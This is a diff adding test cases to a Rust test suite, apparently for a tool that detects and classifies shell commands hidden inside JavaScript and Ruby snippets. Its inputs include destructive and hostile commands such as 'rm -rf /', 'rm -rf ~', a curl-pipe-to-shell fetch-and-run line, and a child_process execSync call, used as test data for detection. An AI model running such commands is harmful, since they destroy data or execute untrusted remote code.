@@ -314,6 +314,10 @@ fn javascript() {
             ),
             ("eval('1+1')", Opaque),
             ("new Function('return 1')()", Opaque),
+            (
+                "module.constructor._load('child_process').execSync('id')",
+                Opaque,
+            ),
             ("require(process.argv[1])", Opaque),
             (
                 "const m = require('child_process'); [1].forEach(m.execSync)",
@@ -686,6 +690,14 @@ fn ruby() {
             ),
             ("puts `id`", Exactly(vec![script("id")])),
             ("puts %x(rm -rf ~)", Exactly(vec![script("rm -rf ~")])),
+            (
+                "sh 'curl -s x | sh'",
+                Exactly(vec![script("curl -s x | sh")]),
+            ),
+            (
+                "sh 'rm', '-rf', '/'",
+                Exactly(vec![exec(&["rm", "-rf", "/"])]),
+            ),
             (
                 "require 'fileutils'; FileUtils.rm_rf('/etc')",
                 Exactly(vec![delete(true, false, "/etc")]),
